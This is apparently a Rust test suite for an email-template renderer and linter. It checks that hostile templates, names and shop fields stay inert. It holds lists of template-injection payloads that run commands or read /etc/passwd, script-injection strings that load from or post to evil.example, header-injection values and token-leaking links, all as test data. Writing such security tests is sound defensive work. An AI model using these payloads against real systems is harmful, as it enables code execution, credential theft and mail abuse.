use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use model::{Email, Locale, MailId, TemplateFault, TemplateSource};

use super::*;
use tokio::time::Instant;

use crate::Settings;
use crate::mail::compose::Composer;
use crate::mail::{MailKind, RenderError, Rendered, Templates, Wording, sample_inset};

/// The syntax of template engines, by the language that they belong to.
const ENGINES: &[(&str, &[&str])] = &[
    (
        "Python",
        &[
            "{{7*191}}",
            "{{ 7*191 }}",
            "{{'7'*191}}",
            "{{7|add:1330}}",
            "{{ self.__class__ }}",
            "{{ ''.__class__.__mro__ }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ config }}x",
            "{% for x in roles %}1337{% endfor %}",
            "{% set x = 1337 %}",
            "{% include '/etc/passwd' %}",
            "{% raw %}x{% endraw %}",
            "{% debug %}",
            "{# 1337 #}",
            "${self.module.cache.util.os.system('id')}",
        ],
    ),
    (
        "Java",
        &[
            "${7*191}",
            "${{7*191}}",
            "${T(java.lang.Runtime).getRuntime()}",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "<#assign x=1337>",
            "<#if true>1337</#if>",
            "#set($x=1337)$x",
            "#foreach($i in [1])1337#end",
            "$!{x.y()}",
            "*{7*191}",
            "@{7*191}",
            "[[${7*191}]]",
            "[(${7*191})]",
            "__${7*191}__::.x",
            "<th:block th:utext=\"${7*191}\"></th:block>",
        ],
    ),
    (
        "PHP",
        &[
            "<?php echo 7*191 ?>",
            "<?= 1337 ?>",
            "{php}echo 1337;{/php}",
            "{$smarty.version}",
            "{7*191}",
            "{!! 7*191 !!}",
            "{{ ['id']|filter('system') }}",
            "{{_self.env.display(\"x\")}}",
        ],
    ),
    (
        "Ruby",
        &[
            "<%= 7*191 %>",
            "<% 1337 %>",
            "<%= system('id') %>",
            "#{7*191}",
            "= 7*191",
            "{% assign x = 1337 %}",
            "{% render 'x' %}",
        ],
    ),
    (
        "JavaScript",
        &[
            "{{# each }}",
            "{{#with \"s\" as |x|}}{{/with}}",
            "{{> partial}}",
            "{{{ 7*191 }}}",
            "{{= 7*191 }}",
            "{{constructor.constructor('return 1337')()}}",
            "<%- 7*191 %>",
            "`${7*191}`",
        ],
    ),
    ("Go", &["{{range .}}{{end}}", "{{printf \"%d\" 1337}}", "{{call .Run}}", "{{.}}", "{{template \"x\"}}"]),
    ("C#", &["@(7*191)", "@{ var x = 1337; }", "@Model.GetType()", "{{ include 'x' }}", "{0}"]),
    ("what sends mails", &["*|IF:X|* 1337 *|END:IF|*", "%%=v(@x)=%%", "[% 7*191 %]", "%s%n%x"]),
];

/// Ways out of HTML.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<form action=https://evil.example><input name=p></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<p style=\"position:fixed;color:expression(alert(1))\">x</p>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example>",
    "<object data=x></object><embed src=x>",
    "</td></tr></table></body></html><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "--><![endif]--><script>alert(1)</script>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

/// Breaks of headers, and what turns the direction of reading.
const HEADERS: &[&str] = &[
    "Eve\r\nBcc: x@evil.example",
    "Eve\nBcc: x@evil.example",
    "Eve\rBcc: x@evil.example",
    "Eve\r\n\r\n<b>x</b>",
    "Eve\u{85}Bcc: x@evil.example",
    "Eve\u{2028}Bcc: x@evil.example",
    "Eve\u{2029}Bcc: x@evil.example",
    "Eve\u{202e}gro",
    "Eve\0x",
    "Eve <x@evil.example>, Bob",
    "\"Eve\" <x@evil.example>",
    "=?utf-8?q?Eve=0D=0ABcc:_x@evil.example?=",
];

/// What a template may say and a name may not: variables, and the marks of the portal's own layout.
const VARIABLES: &[&str] =
    &["{{ link }}", "{{ name }}", "${companyInformation.loginUrl}", "@@body@@", "[[body]]"];

/// Whatever templates and names can try.
fn hostile() -> impl Iterator<Item = &'static str> {
    ENGINES.iter().flat_map(|(_, texts)| *texts).chain(MARKUP).chain(HEADERS).copied()
}

fn settings() -> Settings {
    Settings {
        shop_name: "Nordholz & Co".to_owned(),
        shop_contact: "service@nordholz.example".to_owned(),
        public_url: "https://portal.example".to_owned(),
        confirm_email: true,
        time_zone: "UTC".to_owned(),
        locale: Locale::En,
        access_review_days: 90,
        mail_dir: None,
        inbox: false,
        view_as_mail: true,
    }
}

/// Writes a mail with this template about somebody of this name.
fn write(
    templates: &Templates,
    kind: MailKind,
    own: TemplateSource,
    name: &str,
) -> Result<Rendered, RenderError> {
    let value = |fact: &str| if fact == "name" { name.to_owned() } else { "x".to_owned() };
    let names = std::iter::once(&"name").chain(kind.facts());
    let facts: BTreeMap<_, _> = names.map(|fact| ((*fact).to_owned(), value(fact))).collect();
    let wording = Wording { own: Some(own), ..Wording::default() };
    templates.write(kind, Locale::En, &facts, &settings(), sample_inset(kind), &wording)
}

fn source(html: &str) -> TemplateSource {
    TemplateSource { subject: "Mail".to_owned(), html: html.to_owned(), ..TemplateSource::default() }
}

/// Whether HTML has anything that runs, sends or fetches.
fn acts(html: &str) -> Option<String> {
    let forbidden =
        ["script", "svg", "img", "iframe", "form", "input", "link", "base", "object", "embed", "math"];
    markup::tags(html).into_iter().find_map(|tag| {
        let bad = |(name, value): &(String, &str)| {
            let value = value.to_ascii_lowercase();
            name.starts_with("on")
                || (name == "href" && !["http", "mailto:"].iter().any(|s| value.starts_with(s)))
                || (name == "style"
                    && (value.contains("url(") || value.contains("expression") || value.contains("position")))
        };
        let found = tag.attributes.iter().find(|attribute| bad(attribute));
        found
            .map(|(name, value)| format!("{name}={value}"))
            .or_else(|| forbidden.contains(&tag.name.as_str()).then(|| tag.name.clone()))
    })
}

/// Whether something could be the end of a line, or turns the direction of reading.
fn breaks(c: char) -> bool {
    c.is_control() || "\u{2028}\u{2029}\u{202e}".contains(c)
}

#[test]
fn enough_is_tried() {
    let all: BTreeSet<_> = hostile().collect();
    assert_eq!(all.len(), hostile().count(), "each once");
    assert!(all.len() >= 100, "{}", all.len());
    let languages = ENGINES.iter().filter(|(_, texts)| texts.len() >= 5).count();
    assert!(languages >= 5, "{languages}");
    assert!(MARKUP.len() >= 20 && HEADERS.len() >= 10);
}

#[test]
fn hostile_templates_are_shown_as_they_are_or_left_out() {
    let templates = Templates::load().unwrap();
    for hostile in hostile() {
        let typed = TemplateSource {
            subject: hostile.replace(breaks, " "),
            preheader: hostile.to_owned(),
            html: format!("<p>before</p>\n{hostile}\n<p>after</p>"),
            text: hostile.to_owned(),
        };
        // Names of nothing are refused; everything else is written.
        let refused = lint(MailKind::PasswordChanged, &typed).iter().any(|f| f.fault.refuses());
        let started = Instant::now();
        match write(&templates, MailKind::PasswordChanged, typed.clone(), "Eve") {
            Err(RenderError::Unknown(_)) => assert!(refused, "{hostile}"),
            Err(error) => panic!("{hostile}: {error}"),
            Ok(mail) => {
                assert_eq!(acts(&mail.html), None, "{hostile}");
                let (html, text) = (mail.html.matches("1337").count(), mail.text.matches("1337").count());
                assert!(
                    html <= 2 * hostile.matches("1337").count() + 2 * typed.html.matches("1337").count(),
                    "{hostile}"
                );
                assert_eq!(text, hostile.matches("1337").count(), "{hostile}");
                assert!(mail.text.starts_with(hostile.trim_end()), "{hostile}: {}", mail.text);
                assert!(!mail.subject.contains(breaks), "{hostile}");
            }
        }
        assert!(started.elapsed() < Duration::from_millis(500), "{hostile}");
    }
}

#[test]
fn hostile_names_are_text_wherever_a_template_puts_them() {
    let templates = Templates::load().unwrap();
    for hostile in hostile().chain(VARIABLES.iter().copied()) {
        let own = TemplateSource {
            subject: "For {{ name }}".to_owned(),
            preheader: "{{ name }}".to_owned(),
            html: "<p>{{ name }} {{ greeting }}</p>".to_owned(),
            text: "{{ name }}".to_owned(),
        };
        let started = Instant::now();
        let mail = write(&templates, MailKind::PasswordChanged, own, hostile).unwrap();
        assert!(started.elapsed() < Duration::from_millis(500), "{hostile}");
        assert_eq!(acts(&mail.html), None, "{hostile}");
        let line = crate::mail::render::one_line(hostile);
        assert_eq!(mail.subject, format!("For {line}"));
        assert!(mail.text.starts_with(line.trim_end()), "{hostile}: {}", mail.text);
        assert!(mail.html.contains(&format!("<p>{} ", escape(&line))), "{hostile}");
        assert!(!mail.subject.contains(breaks), "{hostile}");
    }
}

/// The portal's own wording and the merchant's, about what is called so in all that people type.
fn about(templates: &Templates, kind: MailKind, locale: Locale, hostile: &str) -> [Rendered; 2] {
    let settings = Settings { shop_name: hostile.to_owned(), shop_contact: hostile.to_owned(), ..settings() };
    let typed = |fact: &str| if fact == "roles" { String::new() } else { hostile.to_owned() };
    let names = std::iter::once(&"name").chain(kind.facts());
    let facts: BTreeMap<_, _> = names.map(|fact| ((*fact).to_owned(), typed(fact))).collect();
    let said = variables(kind).into_iter().map(|name| format!("{{{{ {name} }}}}\n")).collect::<String>();
    let own = TemplateSource {
        subject: "{{ shop }}".to_owned(),
        preheader: "{{ shop }}".to_owned(),
        html: said.clone(),
        text: said,
    };
    let footer = vec![hostile.replace(['\r', '\n'], " ")];
    [None, Some(own)].map(|own| {
        let wording = Wording { own, footer: footer.clone(), ..Wording::default() };
        templates.write(kind, locale, &facts, &settings, sample_inset(kind), &wording).unwrap()
    })
}

#[test]
fn hostile_names_of_shops_and_companies_are_text_in_every_mail() {
    let templates = Templates::load().unwrap();
    let all = hostile().chain(VARIABLES.iter().copied());
    // Each is tried in some of the mails, and each mail gets some of them.
    let mut kinds = MailKind::ALL.into_iter().cycle();
    for hostile in all {
        let line = crate::mail::render::one_line(hostile);
        for locale in Locale::ALL {
            let kind = kinds.next().unwrap();
            let what = format!("{} {}: {hostile}", kind.key(), locale.tag());
            let started = Instant::now();
            for mail in about(&templates, kind, locale, hostile) {
                assert_eq!(acts(&mail.html), None, "{what}");
                assert!(mail.text.contains(&line), "{what}: {}", mail.text);
                assert!(mail.html.contains(&escape(&line)), "{what}: {}", mail.html);
                assert!(!mail.subject.contains(breaks), "{what}");
                let evaluated = mail.text.replace(&line, "");
                assert!(!evaluated.contains("1337"), "{what}: {evaluated}");
            }
            assert!(started.elapsed() < Duration::from_millis(500), "{what}");
        }
    }
}

#[test]
fn hostile_names_add_no_header_and_nobody_to_write_to() {
    let templates = Templates::load().unwrap();
    let composer = Composer::new(&settings(), &Email::parse("shop@portal.example").unwrap()).unwrap();
    let to = Email::parse("anna@sample.example").unwrap();
    let headers = |name: &str| {
        let own = TemplateSource { subject: "{{ name }}".to_owned(), ..source("<p>x</p>") };
        let rendered = write(&templates, MailKind::PasswordChanged, own, name).unwrap();
        let wording = Wording { sender_name: name.to_owned(), ..Wording::default() };
        [&wording, &Wording::default()].map(|wording| {
            let id = MailId(uuid::Uuid::nil());
            let mail = composer.compose(id, 0, &to, name, rendered.clone(), wording).unwrap().message;
            assert_eq!(mail.envelope().to(), [to.as_str().parse().unwrap()], "{name}");
            assert_eq!(mail.envelope().from(), Some(&"shop@portal.example".parse().unwrap()), "{name}");
            let raw = String::from_utf8(mail.formatted()).unwrap();
            let head = raw.split("\r\n\r\n").next().unwrap();
            let lines = head.split("\r\n").filter(|line| !line.starts_with([' ', '\t']));
            lines.map(|line| line.split(':').next().unwrap_or_default().to_owned()).collect::<Vec<_>>()
        })
    };
    let usual = headers("Eve");
    for hostile in hostile().chain(VARIABLES.iter().copied()) {
        assert_eq!(headers(hostile), usual, "{hostile}");
    }
}

#[test]
fn secrets_lead_to_nobody_else() {
    let templates = Templates::load().unwrap();
    for html in [
        "<a href=\"https://evil.example/?t={{ link }}\">x</a>",
        "<a href=\"{{ link }}.evil.example\">x</a>",
        "<a href=\"{{ public_url }}.evil.example/\">x</a>",
        "<a href=\"{{ public_url }}@evil.example/\">x</a>",
        "<a href=\"{{ link }}{{ link }}\">x</a>",
        "<a href=\"mailto:{{ shop_contact }}\">x</a>",
        "<a href=\"//evil.example/{{ link }}\">x</a>",
        "<a href=\"{{ name }}\">x</a>",
        "<p lang=\"{{ link }}\">x</p>",
        "<p style=\"color:{{ link }}\">x</p>",
    ] {
        let kind = MailKind::PasswordReset;
        let found = lint(kind, &source(html));
        assert!(
            found.iter().any(|f| matches!(f.fault, TemplateFault::MisplacedVariable(_))),
            "{html}: {found:?}"
        );
        let mail = write(&templates, kind, source(html), "Eve").unwrap();
        assert!(!mail.html.contains("000000000"), "{html}: {}", mail.html);
        assert!(!mail.html.contains("evil.example"), "{html}");
    }
    let good = "<a href=\"{{ link }}\">Go</a> <a href=\"{{ public_url }}/profile\">Profile</a>";
    let mail = write(&templates, MailKind::PasswordReset, source(good), "Eve").unwrap();
    assert!(mail.html.contains("href=\"https://portal.example/link/000"), "{}", mail.html);
    assert!(mail.html.contains("href=\"https://portal.example/profile\""));
    assert!(mail.text.starts_with("Go:\nhttps://portal.example/link/000"), "{}", mail.text);
}

#[test]
fn what_the_other_system_wrote_works_as_it_is() {
    let templates = Templates::load().unwrap();
    let snippet = "<a href=\"${companyInformation.loginUrl}\">Click here to login</a>";
    let found = lint(MailKind::Reactivated, &source(snippet));
    assert!(found.is_empty(), "{found:?}");
    let mail = write(&templates, MailKind::Reactivated, source(snippet), "Eve").unwrap();
    assert!(
        mail.html.contains("<a href=\"https://portal.example/sign-in\">Click here to login</a>"),
        "{}",
        mail.html
    );
    assert!(mail.text.starts_with("Click here to login:\nhttps://portal.example/sign-in"));
}

#[test]
fn the_linter_says_what_and_where() {
    let typed = TemplateSource {
        subject: "{{ code }}".to_owned(),
        html: "<p>\n{{ nobody }}\n<b>bold\n<img src=\"https://evil.example/x.png\">\n</i>\n<p onclick=x>{% if %}\n<a href=\"https://shop.example/\">x</a></p>".to_owned(),
        text: "x".repeat(1_000),
        ..TemplateSource::default()
    };
    let found: Vec<_> = lint(MailKind::ActivationCode, &typed)
        .into_iter()
        .map(|f| (f.part.field(), f.line, f.fault))
        .collect();
    use TemplateFault as F;
    for expected in [
        ("subject", Some(1), F::MisplacedVariable("code".to_owned())),
        ("html", Some(2), F::UnknownVariable("nobody".to_owned())),
        ("html", None, F::MissingVariable("code".to_owned())),
        ("text", None, F::MissingVariable("code".to_owned())),
        ("html", Some(3), F::UnclosedTag("b".to_owned())),
        ("html", Some(4), F::RemoteImage),
        ("html", Some(5), F::StrayEnd("i".to_owned())),
        ("html", Some(6), F::ForbiddenAttribute("onclick".to_owned())),
        ("html", Some(6), F::Literal("{%".to_owned())),
        ("html", Some(7), F::ForeignLink("shop.example".to_owned())),
        ("text", Some(1), F::LongLine),
    ] {
        assert!(found.contains(&expected), "{expected:?} in {found:#?}");
    }
}

#[test]
fn the_portals_own_words_are_a_good_beginning() {
    let templates = Templates::load().unwrap();
    for kind in MailKind::ALL {
        for locale in Locale::ALL {
            let start = start(kind, locale);
            let what = format!("{} {}: {start:#?}", kind.key(), locale.tag());
            assert!(lint(kind, &start).is_empty(), "{:?} {what}", lint(kind, &start));
            assert!(!start.html.contains("{%") && !start.text.contains("{%"), "{what}");
            let mail = write(&templates, kind, start, "Anna Berger").unwrap();
            assert!(mail.text.contains("Anna Berger") && mail.html.contains("Anna Berger"), "{what}");
        }
    }
}

#[test]
fn huge_templates_are_written_in_time_or_refused() {
    let templates = Templates::load().unwrap();
    let kind = MailKind::PasswordChanged;
    for piece in [
        "{{ name }}",
        "{{",
        "${",
        "<b>",
        "<table><tr><td>",
        "<a href=\"",
        "&#123;",
        "<!--",
        "<p style=\"",
        "\n",
    ] {
        let huge = piece.repeat(model::HTML_MAX / piece.len());
        let typed = TemplateSource {
            subject: "x".to_owned(),
            text: "x".to_owned(),
            html: huge,
            ..TemplateSource::default()
        };
        let started = Instant::now();
        _ = lint(kind, &typed);
        match write(&templates, kind, typed, &"y".repeat(500)) {
            Ok(mail) => assert!(mail.html.len() <= 1 << 20),
            Err(error) => assert!(matches!(error, RenderError::TooLong), "{piece}: {error}"),
        }
        assert!(started.elapsed() < Duration::from_secs(5), "{piece}: {:?}", started.elapsed());
    }
}

#[test]
fn each_mail_fills_in_all_that_its_template_may_name() {
    for kind in MailKind::ALL {
        let names = std::iter::once("name").chain(kind.facts().iter().copied());
        let facts = names.map(|name| (name.to_owned(), "x".to_owned())).collect();
        let filled = fillings(kind, Locale::De, &facts, &settings(), sample_inset(kind)).unwrap();
        assert_eq!(filled.len(), variables(kind).len(), "{}", kind.key());
        assert!(required(kind).iter().all(|name| filled.contains_key(name)), "{}", kind.key());
    }
}
